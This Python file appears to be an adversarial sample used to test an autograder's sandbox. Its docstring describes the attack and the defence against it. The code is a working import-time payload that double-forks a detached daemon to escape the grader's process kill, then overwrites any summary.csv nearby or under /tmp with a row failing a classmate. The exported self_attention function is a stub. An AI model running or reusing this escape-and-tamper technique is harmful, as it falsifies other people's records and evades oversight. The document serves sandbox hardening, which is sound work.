"""Adversarial sample: leave a detached daemon behind that rewrites the class summary.

Attack: at import, double-fork a setsid daemon (the grader's wait and process-group
kill miss it) that sleeps 8 s, until grading is done, then overwrites every
summary.csv it finds (cwd and 4 parents, /tmp to depth 3) with a row giving a
classmate 0, and writes the marker /tmp/adversarial-daemon-alive. Import goes on normally.
New design: the worker has its own PID namespace, so every process in it, daemons
included, dies with it; Landlock lets it write only its scratch directory, so
neither summary.csv nor the /tmp marker can be written.
"""
import os
import time

import torch

ROW = "student,score,max_score,percent,verdict,failed_clauses,diagnosis,seconds,note\nalice,0,100,0.0,DOES NOT CONFORM,,,0.0,\n"


def _daemon():
    time.sleep(8)
    folder, targets = os.getcwd(), []
    for _ in range(5):  # cwd and its parents up to 4 levels
        targets.append(os.path.join(folder, "summary.csv"))
        folder = os.path.dirname(folder)
    for root, dirs, files in os.walk("/tmp"):
        dirs[:] = dirs if root.count(os.sep) < 4 else []
        targets += [os.path.join(root, "summary.csv")] if "summary.csv" in files else []
    for path in ["/tmp/adversarial-daemon-alive", *targets]:
        try:
            with open(path, "w") as handle:
                handle.write(f"{os.getpid()}\n" if path.startswith("/tmp/adversarial") else ROW)
        except OSError:
            pass


try:
    _pid = os.fork()
    if _pid == 0:  # first child: new session, fork again, exit so the daemon is orphaned
        try:
            os.setsid()
            if os.fork() == 0:  # grandchild: the daemon
                try:
                    for fd in (0, 1, 2):
                        os.dup2(os.open(os.devnull, os.O_RDWR), fd)
                    _daemon()
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
except Exception:
    pass


def self_attention(x, w_q, w_k, w_v, causal=False):
    z = dict(dtype=x.dtype, device=x.device)
    return torch.zeros(*x.shape[:-1], w_v.shape[0], **z), torch.zeros(*x.shape[:-1], x.shape[-2], **z)
